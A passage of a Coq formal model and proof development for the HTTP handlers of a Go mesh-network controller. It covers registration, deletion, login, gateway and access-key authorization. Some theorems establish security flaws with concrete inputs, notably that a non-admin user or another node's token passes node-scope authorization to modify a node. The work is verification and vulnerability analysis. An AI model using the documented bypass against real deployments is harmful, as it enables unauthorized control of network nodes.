    | c' => zero_answer c'
    end).

(** ** Outcomes of registration and deletion *)

(** Registration failed: one error written, no success body, nothing
    propagated.  Registration done: one node handed to [logic.CreateNode],
    no error, the node as [logic.CreateNode] left it written with its peers
    and propagated. *)
Definition registration_failed (tr : list Event) : Prop :=
  exists e, error_responses tr = [e] /\ encoded tr = [] /\ spawned tr = [].

Definition registration_done (tr : list Event) : Prop :=
  exists n n' peers info,
    created tr = [n] /\ error_responses tr = [] /\
    encoded tr = [BodyNodeGet (mkNodeGet n' peers info)] /\
    spawned tr = [TaskRunForceServerUpdate n'].

Definition deletion_failed (tr : list Event) : Prop :=
  exists e, error_responses tr = [e] /\ success_responses tr = [] /\
            spawned tr = [].

Definition deletion_done (r : Request) (tr : list Event) : Prop :=
  exists n,
    deleted tr = [n] /\ error_responses tr = [] /\
    success_responses tr = [String.append (Get (Vars r) "nodeid") " deleted."] /\
    spawned tr = [TaskRunUpdates n false; TaskRunForceServerUpdate n].

(** The store accepts the node, but its peers cannot be computed. *)
Definition env_peers_fail (draft : Node) : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | NetworkExists name => (String.eqb name "net1", None)
    | DecodeNode => (draft, None)
    | GetNetworkByNode _ => (net1 "no", None)
    | GetNetworkSettings _ => (net1 "no", None)
    | IsKeyValid _ key => String.eqb key "goodkey"
    | RetrievePublicTrafficKey => (Some "serverpk", None)
    | GetPeerUpdate _ => (mkPeerUpdate [], Some "could not reach peers")
    | IsEmptyRecord _ => false
    | c' => zero_answer c'
    end).

(** An ordinary node "node-1" is stored. *)
Definition env_stored_node : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetNodeByID id =>
        if String.eqb id "node-1" then (stored_node, None)
        else (zeroNode, Some "no result found")
    | c' => zero_answer c'
    end).

(** ** Propagation and update *)

(** Client mode is on and the local server record of the node's network is
    [srv]. *)
Definition env_client_mode (srv : Node) (leader : bool) (err : error)
    : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | IsClientMode => "on"
    | GetNetworkServerLocal _ => (srv, None)
    | IsLeader _ => leader
    | ServerUpdate _ _ => err
    | c' => zero_answer c'
    end).

(** ** Programs that write no error

    No call of the program, on any answers, is [returnErrorResponse]. *)
Fixpoint Silent {A : Type} (p : Prog A) : Prop :=
  match p with
  | Ret _ | Panic _ => True
  | Vis c k =>
      match c with ReturnErrorResponse _ => False | _ => True end /\
      forall x, Silent (k x)
  end.

(** The patch as it goes to persistence (lines 644-647). *)
Definition sent_patch (rce : bool) (node patch : Node) : Node :=
  if negb rce
  then set_PostUp (PostUp node) (set_PostDown (PostDown node) patch)
  else patch.

(** The relay list of the patch is there and differs from the stored one. *)
Definition relay_list_changes (node patch : Node) : Prop :=
  IsRelay node = "yes" /\ RelayAddrs patch <> [] /\
  RelayAddrs patch <> RelayAddrs node.

Definition update_failed (tr : list Event) : Prop :=
  exists e,
    error_responses tr = [e] /\ encoded tr = [] /\ spawned tr = [] /\
    relay_updates tr = [] /\ relay_lookups tr = [] /\ length (updated tr) <= 1.

(** The store holds [node] and the body decodes to [patch]; remote commands
    are enabled; [logic.FindRelay] answers [found] and [logic.UpdateRelay]
    answers [relayed]; an update is answered with the two records it was
    given. *)
Definition env_patch (node patch : Node) (found : option (Node * nat))
    (relayed : list Node) : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetNodeByID _ => (node, None)
    | DecodeNode => (patch, None)
    | GetRce => true
    | FindRelay _ => found
    | UpdateRelay _ _ _ => relayed
    | c' => zero_answer c'
    end).

(** ** Runs of the further handlers *)

Definition lift_event (e : Event) : Event2 :=
  match e with Ev c x => Ev2 (Base c) x end.

Definition zero_answer2 {X : Type} (c : Call2 X) : X :=
  match c in Call2 X return X with
  | Base c0 => zero_answer c0
  | GetNetworks => ([], None)
  | GetNetwork _ => (zeroNetwork, None)
  | UncordonNode _ => (zeroNode, None)
  | CreateEgressGateway _ => (zeroNode, None)
  | DeleteEgressGateway _ _ => (zeroNode, None)
  | CreateIngressGateway _ _ => (zeroNode, None)
  | DeleteIngressGateway _ _ => (zeroNode, None)
  | CreateJWT _ _ _ => ("", None)
  | CompareHashAndPassword _ _ => None
  | DecodeAuthParams => (mkAuthParams "" "" "", None)
  | DecodeEgressGatewayRequest => (mkEgressGatewayRequest "" "" [], None)
  | Marshal _ => ("", None)
  | Write _ => tt
  end.

Definition stateless2 (f : forall X : Type, Call2 X -> X) : Env2 unit :=
  fun X c w => (f X c, w).

(** Readers of the traces of the second kind: bytes written to the response,
    password comparisons with their answers, tokens asked of
    [logic.CreateJWT] with their answers, responses handed to
    [json.Marshal] with their answers, network listings asked for, egress
    gateways asked for. *)
Definition on_Write (e : Event2) : option string :=
  match e with
  | Ev2 c _ => match c with Write bytes => Some bytes | _ => None end
  end.

Definition on_CompareHashAndPassword (e : Event2)
    : option (string * string * error) :=
  match e with
  | Ev2 c x =>
      match c in Call2 X return X -> option (string * string * error) with
      | CompareHashAndPassword hash pw => fun x => Some (hash, pw, x)
      | _ => fun _ => None
      end x
  end.

Definition on_CreateJWT (e : Event2)
    : option (string * string * string * (string * error)) :=
  match e with
  | Ev2 c x =>
      match c in Call2 X
            return X -> option (string * string * string * (string * error)) with
      | CreateJWT id mac net => fun x => Some (id, mac, net, x)
      | _ => fun _ => None
      end x
  end.

Definition on_Marshal (e : Event2) : option (SuccessResponse * (string * error)) :=
  match e with
  | Ev2 c x =>
      match c in Call2 X
            return X -> option (SuccessResponse * (string * error)) with
      | Marshal v => fun x => Some (v, x)
      | _ => fun _ => None
      end x
  end.

Definition on_GetNetworks (e : Event2) : option unit :=
  match e with
  | Ev2 c _ => match c with GetNetworks => Some tt | _ => None end
  end.

Definition on_CreateEgressGateway (e : Event2) : option EgressGatewayRequest :=
  match e with
  | Ev2 c _ => match c with CreateEgressGateway g => Some g | _ => None end
  end.

Definition written (tr : list Event2) : list string := omap on_Write tr.
Definition password_checks (tr : list Event2)
    : list (string * string * error) :=
  omap on_CompareHashAndPassword tr.
Definition tokens (tr : list Event2)
    : list (string * string * string * (string * error)) :=
  omap on_CreateJWT tr.
Definition marshalled (tr : list Event2)
    : list (SuccessResponse * (string * error)) :=
  omap on_Marshal tr.
Definition network_listings (tr : list Event2) : list unit :=
  omap on_GetNetworks tr.
Definition egress_requests (tr : list Event2) : list EgressGatewayRequest :=
  omap on_CreateEgressGateway tr.

(** ** The access-key middleware *)

(** [tok] is the value of an access key of one of the networks. *)
Definition has_key (networks : list Network) (tok : string) : Prop :=
  exists network key,
    network ∈ networks /\ key ∈ AccessKeys network /\ Value key = tok.

Definition no_valid_key : ErrorResponse :=
  ErrorResponseLit StatusUnauthorized
    "You are unauthorized to access this endpoint.".

(** Two networks, each with one access key. *)
Definition two_networks : list Network :=
  [ mkNetwork "net1" [mkAccessKey "key-of-net1"] "no" 0;
    mkNetwork "net2" [mkAccessKey "key-of-net2"] "no" 0 ].

Definition env_two_networks : Env2 unit :=
  stateless2 (fun X c =>
    match c in Call2 X return X with
    | GetNetworks => (two_networks, None)
    | c' => zero_answer2 c'
    end).

(** ** Node login *)

Definition login_refused (tr : list Event2) : Prop :=
  exists msg,
    error_responses (base_events tr) = [ErrorResponseLit StatusBadRequest msg] /\
    written tr = [] /\ status_codes (base_events tr) = [].

(** The login answer for the node [id] with the token [tok]. *)
Definition login_answer (id tok : string) : SuccessResponse :=
  mkSuccessResponse StatusOK
    (String.append "W1R3: Device " (String.append id " Authorized"))
    (mkSuccessfulLoginResponse tok id).

Definition login_granted (tr : list Event2) : Prop :=
  exists id mac net hash pw tok ignored json,
    node_lookups (base_events tr) = [id] /\
    password_checks tr = [(hash, pw, None)] /\
    tokens tr = [(id, mac, net, (tok, ignored))] /\ tok <> "" /\
    marshalled tr = [(login_answer id tok, (json, None))] /\
    written tr = [json] /\
    error_responses (base_events tr) = [] /\
    status_codes (base_events tr) = [StatusOK].

Definition login_marshal_failed (tr : list Event2) : Prop :=
  exists v json msg,
    marshalled tr = [(v, (json, Some msg))] /\ written tr = [] /\
    error_responses (base_events tr) = [] /\ status_codes (base_events tr) = [].

(** The node "node-1" is stored with the password hash "hash-of-pw"; the
    comparison accepts the password "pw" for it. *)
Definition env_login (login : AuthParams) : Env2 unit :=
  stateless2 (fun X c =>
    match c in Call2 X return X with
    | DecodeAuthParams => (login, None)
    | Base c0 =>
        match c0 in Call X return X with
        | GetNodeByID id =>
            if String.eqb id "node-1"
            then (mkNode "node-1" "alpha" "net1" "10.0.0.2" "" "hash-of-pw" ""
                         "no" "no" "no" "no" [] "" "" ""
                         (mkTrafficKeys None None) zeroNetwork [], None)
            else (zeroNode, Some "no result found")
        | c1 => zero_answer c1
        end
    | CompareHashAndPassword hash pw =>
        if String.eqb hash "hash-of-pw" && String.eqb pw "pw" then None
        else Some "hashedPassword is not the hash of the given password"
    | CreateJWT id mac net => (String.append "jwt-for-" id, None)
    | Marshal v => (String.append "json:" (AuthToken (SR_Response v)), None)
    | c' => zero_answer2 c'
    end).

(** ** Approval and gateways *)

(** The handlers that change one node through package [logic]: the handler,
    the body it writes for the changed node, and the interface flag of the
    propagation it starts. *)
Definition node_changes
    : list ((Request -> Prog2 unit) * (Node -> Body) * bool) :=
  [ (uncordonNode, fun _ => BodyString "SUCCESS", false);
    (createEgressGateway, BodyNode, true);
    (deleteEgressGateway, BodyNode, true);
    (createIngressGateway, BodyNode, true);
    (deleteIngressGateway, BodyNode, true) ].

Definition change_failed (tr : list Event) : Prop :=
  exists err,
    error_responses tr = [formatError err "internal"] /\ status_codes tr = [] /\
    encoded tr = [] /\ spawned tr = [].

Definition change_done (body : Node -> Body) (flag : bool) (tr : list Event)
    : Prop :=
  exists node,
    error_responses tr = [] /\ status_codes tr = [StatusOK] /\
    encoded tr = [body node] /\ spawned tr = [TaskRunUpdates node flag].

(** The body of the request names another node and another network than the
    path. *)
Definition env_egress : Env2 unit :=
  stateless2 (fun X c =>
    match c in Call2 X return X with
    | DecodeEgressGatewayRequest =>
        (mkEgressGatewayRequest "node-of-the-body" "net-of-the-body"
           [("ranges", "10.1.0.0/16")], None)
    | c' => zero_answer2 c'
    end).

(** ** The route of the listing of all nodes *)

(** The user "bob" is known and no admin; the store holds three nodes. *)
Definition env_route_all_nodes : Env2 unit :=
  stateless2 (fun X c =>
    match c in Call2 X return X with
    | Base c0 =>
        match c0 in Call X return X with
        | VerifyUserToken tok =>
            if String.eqb tok "bobtoken" then ("bob", [], false, None)
            else ("", [], false, Some "invalid token")
        | GetUser name =>
            if String.eqb name "bob" then (bob, None)
            else (zeroUser, Some "could not find any records")
        | GetAllNodes => (all_nodes, None)
        | c1 => zero_answer c1
        end
    | c' => zero_answer2 c'
    end).

(** The node "node-1" is stored; its peers cannot be read because the store
    has no record of them. *)
Definition env_empty_record : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetNodeByID _ => (stored_node, None)
    | GetPeerUpdate _ => (mkPeerUpdate [], Some "no result found")
    | IsEmptyRecord _ => true
    | GetServerInfo => "server-info"
    | c' => zero_answer c'
    end).

(** * Lemmas and theorems *)

(** ** Running programs *)

Lemma run_bind {W A B} (env : Env W) (p : Prog A) (f : A -> Prog B) (w : W) :
  run env (p ≫= f) w =
  match result (run env p w) with
  | Some a =>
      let o := run env (f a) (final (run env p w)) in
      mkOutcome (result o) (final o) (trace (run env p w) ++ trace o)
  | None => mkOutcome None (final (run env p w)) (trace (run env p w))
  end.
Proof.
  revert w. induction p as [a | msg | X c k IH]; intros w.
  - simpl. unfold mbind, Prog_bind. simpl. by destruct (run env (f a) w).
  - reflexivity.
  - unfold mbind, Prog_bind in *. simpl.
    destruct (env X c w) as [x w']. simpl. rewrite IH.
    destruct (result (run env (k x) w')); reflexivity.
Qed.

Lemma run_call {W X} (env : Env W) (c : Call X) (w : W) :
  run env (call c) w =
  mkOutcome (Some (env X c w).1) (env X c w).2 [Ev c (env X c w).1].
Proof. simpl. by destruct (env X c w). Qed.

Lemma run_call_ {W X} (env : Env W) (c : Call X) (w : W) :
  run env (call_ c) w =
  mkOutcome (Some tt) (env X c w).2 [Ev c (env X c w).1].
Proof. simpl. by destruct (env X c w). Qed.

Lemma run_call_bind {W X A} (env : Env W) (c : Call X) (f : X -> Prog A) (w : W) :
  run env (call c ≫= f) w =
  mkOutcome (result (run env (f (env X c w).1) (env X c w).2))
            (final (run env (f (env X c w).1) (env X c w).2))
            (Ev c (env X c w).1 :: trace (run env (f (env X c w).1) (env X c w).2)).
Proof. unfold mbind, Prog_bind. simpl. by destruct (env X c w). Qed.

Lemma run_call__bind {W X A} (env : Env W) (c : Call X) (f : unit -> Prog A)
    (w : W) :
  run env (call_ c ≫= f) w =
  mkOutcome (result (run env (f tt) (env X c w).2))
            (final (run env (f tt) (env X c w).2))
            (Ev c (env X c w).1 :: trace (run env (f tt) (env X c w).2)).
Proof. unfold mbind, Prog_bind. simpl. by destruct (env X c w). Qed.

Lemma run_ret {W A} (env : Env W) (a : A) (w : W) :
  run env (Ret a) w = mkOutcome (Some a) w [].
Proof. reflexivity. Qed.

Lemma run_skip {W} (env : Env W) (w : W) :
  run env skip w = mkOutcome (Some tt) w [].
Proof. reflexivity. Qed.

(** Proof steps: run the next call and name its answer. *)
Ltac run_next :=
  first [ rewrite run_call_bind | rewrite run_call__bind
        | rewrite run_call | rewrite run_call_ | rewrite run_ret
        | rewrite run_skip ].

Ltac tidy :=
  cbn [fst snd result final trace is_nil nil_key negb andb orb] in *.

Ltac name_answer :=
  match goal with
  | |- context [?env ?X ?c ?w] =>
      match type of env with
      | Env _ =>
          let x := fresh "x" in
          let w' := fresh "w" in
          let E := fresh "E" in
          destruct (env X c w) as [x w'] eqn:E;
          match type of x with
          | unit => destruct x
          | _ => idtac
          end
      end
  end; tidy.

Ltac step := run_next; name_answer.

(** Use a hypothesis [H : forall w, (env _ c w).1 = v] on the last answer. *)
Ltac by_answer H :=
  match goal with
  | E : ?env ?X ?c ?w = (?x, _) |- _ =>
      let Hx := fresh "Hx" in
      pose proof (H w) as Hx; rewrite E in Hx; cbn [fst snd] in Hx;
      subst x; tidy
  end.

(** ** Reading traces *)

Lemma omap_cons_ev {A} (f : Event -> option A) (e : Event) (tr : list Event) :
  omap f (e :: tr) =
  match f e with Some y => y :: omap f tr | None => omap f tr end.
Proof. reflexivity. Qed.

Lemma omap_nil_ev {A} (f : Event -> option A) : omap f [] = [].
Proof. reflexivity. Qed.

Ltac read :=
  unfold served, error_responses, credential_checks, created, deleted,
    updated, spawned, peer_updates, reloads, encoded, network_lookups in *;
  repeat first [ rewrite omap_cons_ev | rewrite omap_nil_ev | rewrite omap_app ];
  cbn [on_ServeNext on_ReturnErrorResponse on_credential_check on_CreateNode
       on_DeleteNodeByID on_UpdateNode on_Go on_PublishPeerUpdate
       on_ServerUpdate on_Encode on_GetNetworkNodes is_credential_check].

(** ** Authorization: master credential (C1) *)

Lemma carries_split r tok :
  carries r tok ->
  (1 <? length (Split (Get (Header r) "Authorization"))) = true /\
  nth 1 (Split (Get (Header r) "Authorization")) "" = tok.
Proof.
  unfold carries. intros H. split.
  - apply Nat.ltb_lt. apply lookup_lt_Some in H. lia.
  - by apply nth_lookup_Some with (d := "") in H.
Qed.

Lemma authorize_user_master {W : Type} (env : Env W) authNetwork r tok w :
  master_credential env tok ->
  let o := run env (authorize_user authNetwork r tok) w in
  result o = Some tt /\ error_responses (trace o) = [] /\
  exists r', served (trace o) = [r'] /\ Get (Header r') "ismasterkey" = "yes".
Proof.
  intros Hm. destruct (Hm w) as (u & nets & Hu).
  unfold authorize_user. step. subst x. tidy. rewrite String.eqb_refl.
  unfold authorize_verdict. tidy. step.
  repeat split. eexists. split; [reflexivity |].
  unfold Get, HeaderSet. cbn [Header].
  rewrite lookup_insert_ne by discriminate.
  by rewrite lookup_insert_eq.
Qed.

(** C1.  A request that carries a master credential: when the route sets the
    network check and the path network does not exist, the only answer is
    the not-found error, written right after the existence lookup, with no
    credential check made and the handler not run; in every other case, for
    every nodesAllowed flag and every declared scope, the handler runs once
    and no error is written. *)
Theorem authorize_master_credential {W : Type} (env : Env W)
    (nodesAllowed networkCheck : bool) (authNetwork : string)
    (r : Request) (tok : string) (w : W) :
  carries r tok ->
  master_credential env tok ->
  let o := run env (authorize nodesAllowed networkCheck authNetwork r) w in
  if networkCheck && negb (network_exists env w r) then
    trace o =
      [ Ev (NetworkExists (Get (Vars r) "network"))
           (env _ (NetworkExists (Get (Vars r) "network")) w).1;
        Ev (ReturnErrorResponse
              (ErrorResponseLit StatusNotFound
                 "W1R3: This network does not exist. ")) tt ]
    /\ credential_checks (trace o) = [] /\ served (trace o) = []
  else
    result o = Some tt /\ error_responses (trace o) = [] /\
    exists r', served (trace o) = [r'].
Proof.
  intros Hc Hm. destruct (carries_split _ _ Hc) as [Hlen Hnth].
  unfold network_exists, authorize. step. destruct x as [ex e0]. tidy.
  destruct (networkCheck && negb ex) eqn:Hn.
  - step. repeat split.
  - step. rewrite Hlen, Hnth.
    destruct nodesAllowed.
    + step. destruct x as [[[a b] c] err].
      destruct err as [msg |]; tidy.
      * destruct (authorize_user_master env authNetwork r tok w2 Hm)
          as (Hr & He & r' & Hs & _).
        repeat split; [done | done |]. exists r'. done.
      * step. repeat split. by exists r.
    + destruct (authorize_user_master env authNetwork r tok w1 Hm)
        as (Hr & He & r' & Hs & _).
      repeat split; [done | done |]. exists r'. done.
Qed.

Lemma authorize_master_credential_witness :
  let o := run env_master
             (authorize true true "node" (node_request "secretkey" "net1" "node-1"))
             tt in
  result o = Some tt /\ error_responses (trace o) = [] /\
  exists r', served (trace o) = [r'].
Proof.
  exact (authorize_master_credential env_master true true "node"
           (node_request "secretkey" "net1" "node-1") "secretkey" tt
           eq_refl
           (fun w => ex_intro _ "masteradministrator"
                       (ex_intro _ [] eq_refl))).
Defined.

(** ** Authorization: the [node] scope (C2) *)

(** On a [node]-scope route the comparison is [nodeID == params["netid"]]:
    [nodeID] is still the empty string for a caller who is not an admin, and
    the routes have no [netid] variable, so the comparison holds for every
    such caller whose user token verifies. *)
Lemma authorize_node_scope_any_user {W : Type} (env : Env W)
    (networkCheck : bool) (r : Request) (tok u : string) (nets : list string)
    (w : W) :
  carries r tok ->
  (forall w', (env _ (VerifyUserToken tok) w').1 = (u, nets, false, None)) ->
  StringSliceContains nets (Get (Vars r) "network") = false ->
  Vars r !! "netid" = None ->
  networkCheck && negb (network_exists env w r) = false ->
  let o := run env (authorize false networkCheck "node" r) w in
  result o = Some tt /\ error_responses (trace o) = [] /\
  served (trace o) =
    [HeaderSet "user" (if String.eqb u "" then "(user not found)" else u) r].
Proof.
  intros Hc Hu Hnets Hvar Hn. destruct (carries_split _ _ Hc) as [Hlen Hnth].
  unfold network_exists in Hn. unfold authorize. step. destruct x as [ex e0].
  tidy. rewrite Hn. step. rewrite Hlen, Hnth.
  unfold authorize_user. step. by_answer Hu.
  rewrite Hnets.
  assert (Hid : Get (Vars r) "netid" = "") by (unfold Get; by rewrite Hvar).
  rewrite Hid.
  destruct (negb (String.eqb (Get (Vars r) "network") ""));
    cbn [String.eqb Ascii.eqb Bool.eqb];
    unfold authorize_verdict; tidy; step; done.
Qed.

(** C2, the code at the failing input: PUT /api/nodes/net1/node-1 (route
    flags false, true, scope "node") by the user "bob", who is no admin, is
    in no network and presents no node identity.  The middleware writes no
    error and runs the handler. *)
Theorem authorize_node_scope_serves_plain_user :
  let r := node_request "bobtoken" "net1" "node-1" in
  let o := run env_bob (authorize false true "node" r) tt in
  In ("PUT", "/api/nodes/{network}/{nodeid}", (false, true, "node")) routes /\
  (env_bob _ (VerifyUserToken "bobtoken") tt).1 = ("bob", [], false, None) /\
  error_responses (trace o) = [] /\ served (trace o) = [HeaderSet "user" "bob" r].
Proof. vm_compute. repeat split. tauto. Qed.

(** With nodesAllowed set (GET and DELETE on the same path) a valid token of
    another node is let through as well: node "node-2" on the path of
    "node-1". *)
Lemma authorize_node_scope_serves_other_node :
  let r := node_request "node2token" "net1" "node-1" in
  let o := run env_bob (authorize true true "node" r) tt in
  error_responses (trace o) = [] /\ served (trace o) = [r].
Proof. vm_compute. split; reflexivity. Qed.

(** ** Listing the nodes of a user (C10) *)

Lemma getUsersNodes_range_run {W : Type} (env : Env W) (networks : list string) :
  forall (nodes : list Node) (w : W),
    let o := run env (getUsersNodes_range networks nodes) w in
    result o = Some (nodes ++ gathered (network_lookups (trace o))) /\
    map fst (network_lookups (trace o)) = networks /\
    error_responses (trace o) = [] /\ encoded (trace o) = [].
Proof.
  induction networks as [| net rest IH]; intros nodes w.
  - cbn. by rewrite app_nil_r.
  - cbn [getUsersNodes_range]. step. destruct x as [tmpNodes err].
    destruct err as [msg |]; tidy.
    + destruct (IH nodes w0) as (Hr & Hl & He & Hb). read.
      cbn [map fst gathered flat_map is_nil]. rewrite Hr, Hl, He, Hb. done.
    + destruct (IH (nodes ++ tmpNodes) w0) as (Hr & Hl & He & Hb). read.
      cbn [map fst gathered flat_map is_nil]. rewrite Hr, Hl, He, Hb.
      by rewrite <- app_assoc.
Qed.

Lemma getUsersNodes_run {W : Type} (env : Env W) (user : User) (w : W) :
  let o := run env (getUsersNodes user) w in
  result o = Some (gathered (network_lookups (trace o)), None) /\
  map fst (network_lookups (trace o)) = Networks user /\
  error_responses (trace o) = [] /\ encoded (trace o) = [].
Proof.
  unfold getUsersNodes. rewrite run_bind.
  destruct (getUsersNodes_range_run env (Networks user) [] w)
    as (Hr & Hl & He & Hb).
  rewrite Hr. tidy. rewrite run_ret. tidy. rewrite app_nil_r. done.
Qed.

(** C10.  The helper that gathers a user's nodes asks for each network of
    the user, in order, and always returns a nil error together with the
    concatenation of the lists of the lookups that succeeded; a failed lookup
    is skipped.  So for a user who is not an admin (and a request not marked
    as master) listing all nodes writes no error: it answers with that
    concatenation. *)
Theorem getUsersNodes_skips_failures {W : Type} (env : Env W) (user : User)
    (r : Request) (w : W) :
  (let o := run env (getUsersNodes user) w in
   result o = Some (gathered (network_lookups (trace o)), None) /\
   map fst (network_lookups (trace o)) = Networks user) /\
  ((forall w', (env _ (GetUser (Get (Header r) "user")) w').1 = (user, None)) ->
   IsAdmin user = false ->
   Get (Header r) "ismasterkey" <> "yes" ->
   let o := run env (getAllNodes r) w in
   error_responses (trace o) = [] /\
   map fst (network_lookups (trace o)) = Networks user /\
   encoded (trace o) = [BodyNodes (gathered (network_lookups (trace o)))]).
Proof.
  split.
  - destruct (getUsersNodes_run env user w) as (Hr & Hl & _). done.
  - intros Hu Hadm Hmk. apply String.eqb_neq in Hmk.
    unfold getAllNodes. step. step. by_answer Hu.
    rewrite Hadm, Hmk. tidy. rewrite run_bind.
    destruct (getUsersNodes_run env user w1) as (Hr & Hl & He & Hb).
    rewrite Hr. tidy. step. step.
    read. rewrite He, Hb, !app_nil_r. done.
Qed.

Lemma getUsersNodes_skips_failures_witness :
  let r := mkRequest {[ "user" := "bob" ]} ∅ in
  let o := run env_listing (getAllNodes r) tt in
  error_responses (trace o) = [] /\
  map fst (network_lookups (trace o)) = ["net1"; "net2"] /\
  encoded (trace o) = [BodyNodes (gathered (network_lookups (trace o)))].
Proof.
  refine (proj2 (getUsersNodes_skips_failures env_listing bob
                   (mkRequest {[ "user" := "bob" ]} ∅) tt) _ _ _).
  - intros w'. reflexivity.
  - reflexivity.
  - vm_compute. discriminate.
Defined.

(** ** Deleting a server node (C6) *)

(** C6.  When the node to delete has its is-server flag set, the handler
    reads the node, answers with the "cannot delete server node" error of the
    bad-request kind (the invalid-state class) and stops: the delete action
    is not set, [logic.DeleteNodeByID] is not called and nothing is
    propagated. *)
Theorem deleteNode_server_node {W : Type} (env : Env W) (r : Request)
    (node : Node) (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  IsServer node = "yes" ->
  let o := run env (deleteNode r) w in
  trace o =
    [ Ev (SetResponseHeader "Content-Type" "application/json") tt;
      Ev (GetNodeByID (Get (Vars r) "nodeid")) (node, None);
      Ev (ReturnErrorResponse
            (formatError (Some "cannot delete server node") "badrequest")) tt ]
  /\ Forall (fun e => reports e InvalidState = true) (error_responses (trace o))
  /\ deleted (trace o) = [] /\ spawned (trace o) = [].
Proof.
  intros Hn Hs. unfold deleteNode. step. step. by_answer Hn.
  unfold isServer. rewrite Hs. cbn [String.eqb Ascii.eqb Bool.eqb].
  step. read. repeat split. by repeat constructor.
Qed.

Lemma deleteNode_server_node_witness :
  let r := node_request "secretkey" "net1" "srv-1" in
  let o := run env_server_node (deleteNode r) tt in
  trace o =
    [ Ev (SetResponseHeader "Content-Type" "application/json") tt;
      Ev (GetNodeByID (Get (Vars r) "nodeid")) (server_node, None);
      Ev (ReturnErrorResponse
            (formatError (Some "cannot delete server node") "badrequest")) tt ]
  /\ Forall (fun e => reports e InvalidState = true) (error_responses (trace o))
  /\ deleted (trace o) = [] /\ spawned (trace o) = [].
Proof.
  refine (deleteNode_server_node env_server_node
            (node_request "secretkey" "net1" "srv-1") server_node tt _ _).
  - intros w'. reflexivity.
  - reflexivity.
Defined.

(** Any other node is marked for deletion and handed to
    [logic.DeleteNodeByID]; on success both propagation tasks start. *)
Lemma deleteNode_ordinary_node {W : Type} (env : Env W) (r : Request)
    (node : Node) (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  (forall n w', (env _ (DeleteNodeByID n false) w').1 = None) ->
  isServer node = false ->
  let o := run env (deleteNode r) w in
  deleted (trace o) = [set_Action NODE_DELETE node] /\
  error_responses (trace o) = [] /\
  spawned (trace o) =
    [ TaskRunUpdates (set_Action NODE_DELETE node) false;
      TaskRunForceServerUpdate (set_Action NODE_DELETE node) ].
Proof.
  intros Hn Hd Hs. unfold deleteNode. step. step. by_answer Hn.
  rewrite Hs. step. by_answer (Hd (set_Action NODE_DELETE node)).
  step. unfold runUpdates, runForceServerUpdate. step. step. read. done.
Qed.

(** ** Forced propagation (C9) *)

(** The entry point starts one goroutine. *)
Lemma runForceServerUpdate_spawns {W : Type} (env : Env W) (node : Node) (w : W) :
  spawned (trace (run env (runForceServerUpdate node) w)) =
    [TaskRunForceServerUpdate node].
Proof. unfold runForceServerUpdate. step. read. done. Qed.

(** C9, as the code has it.  The goroutine of the force-propagation entry
    point publishes one peer update, addressed to the given node, then looks
    the leader of the node's network up; when the lookup succeeds it pushes
    one configuration reload to that leader, with the interface flag false,
    and when the lookup fails it pushes none.  It consults neither the
    client-mode setting, nor the node's server flag, nor [IsLeader]: the
    trace holds these two or three calls only. *)
Theorem runForceServerUpdate_body_trace {W : Type} (env : Env W) (node : Node)
    (w : W) :
  let o := run env (task_body (TaskRunForceServerUpdate node)) w in
  spawned (trace (run env (runForceServerUpdate node) w))
    = [TaskRunForceServerUpdate node] /\
  result o = Some tt /\
  peer_updates (trace o) = [node] /\
  reloads (trace o) =
    (if is_nil (leader_lookup env node w).2
     then [((leader_lookup env node w).1, false)] else []) /\
  length (trace o) = (if is_nil (leader_lookup env node w).2 then 3 else 2).
Proof.
  split; [apply runForceServerUpdate_spawns |].
  unfold leader_lookup, task_body, runForceServerUpdate_body.
  step. step. destruct x0 as [leader getErr].
  destruct getErr as [msg |]; tidy.
  - rewrite run_skip. read. done.
  - step. read. done.
Qed.

(** C9 as stated fails here: the entry point is invoked and no configuration
    reload is pushed. *)
Lemma runForceServerUpdate_no_reload_without_leader :
  let o := run env_no_leader
             (task_body (TaskRunForceServerUpdate (node_named "node-1" "net1")))
             tt in
  peer_updates (trace o) = [node_named "node-1" "net1"] /\
  reloads (trace o) = [] /\
  ~ (exists leader d, In (leader, d) (reloads (trace o))).
Proof.
  vm_compute. split; [reflexivity | split; [reflexivity |]].
  intros (leader & d & []).
Qed.

(** ** Update with remote command execution disabled (C7) *)

(** C7.  With the remote-command-execution setting off, the node handed to
    persistence has the script fields ([PostUp], [PostDown]) of the stored
    node, whatever the patch supplies for them, and every other field as the
    patch has it. *)
Theorem updateNode_keeps_scripts {W : Type} (env : Env W) (r : Request)
    (node patch : Node) (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  (forall w', (env _ DecodeNode w').1 = (patch, None)) ->
  (forall w', (env _ GetRce w').1 = false) ->
  let o := run env (updateNode r) w in
  exists persisted,
    head (updated (trace o)) = Some (node, persisted) /\
    PostUp persisted = PostUp node /\
    PostDown persisted = PostDown node /\
    set_PostUp (PostUp patch) (set_PostDown (PostDown patch) persisted) = patch.
Proof.
  intros Hn Hp Hr. exists (gated_patch node patch).
  split; [| by destruct patch].
  unfold updateNode. step. step. by_answer Hn. step. by_answer Hp.
  step. by_answer Hr. fold (gated_patch node patch). step. step.
  read. reflexivity.
Qed.

Lemma updateNode_keeps_scripts_witness :
  let o := run (env_update false)
             (updateNode (node_request "secretkey" "net1" "node-1")) tt in
  exists persisted,
    head (updated (trace o)) = Some (stored_node, persisted) /\
    PostUp persisted = "echo up" /\
    PostDown persisted = "echo down" /\
    set_PostUp (PostUp patch_node) (set_PostDown (PostDown patch_node) persisted)
    = patch_node.
Proof.
  refine (updateNode_keeps_scripts (env_update false)
            (node_request "secretkey" "net1" "node-1") stored_node patch_node tt
            _ _ _).
  - intros w'. reflexivity.
  - intros w'. reflexivity.
  - intros w'. reflexivity.
Defined.

(** With the setting on, the patch goes to persistence as decoded. *)
Lemma updateNode_rce_enabled {W : Type} (env : Env W) (r : Request)
    (node patch : Node) (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  (forall w', (env _ DecodeNode w').1 = (patch, None)) ->
  (forall w', (env _ GetRce w').1 = true) ->
